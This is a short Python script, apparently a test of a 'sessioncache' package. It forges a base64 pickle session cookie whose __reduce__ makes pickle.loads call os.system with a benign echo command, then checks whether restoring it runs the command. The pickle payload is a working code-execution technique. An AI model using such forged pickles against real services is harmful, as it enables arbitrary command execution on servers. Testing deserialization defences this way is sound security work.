"""The application: keeps sessions with the third-party 'sessioncache' package
and runs a command of its own. A client sends a forged session cookie: a pickle
whose __reduce__ makes pickle.loads call os.system."""
import base64
import os
import pickle
import sys

import sessioncache


class Payload:
    def __reduce__(self):
        return (os.system, ("echo pwned > pwned; echo the payload ran",))


good = sessioncache.save({"user": "ana", "cart": [3, 5]})
print("a normal session:", sessioncache.restore(good))

evil = base64.b64encode(pickle.dumps(Payload())).decode()
try:
    print("the forged session gave:", sessioncache.restore(evil))
except OSError as e:
    print("the forged session failed:", repr(e))

rc = os.system("echo app-ok > app-ok; echo the application command ran")
print("the app's own os.system exited with", rc)
sys.exit(0)
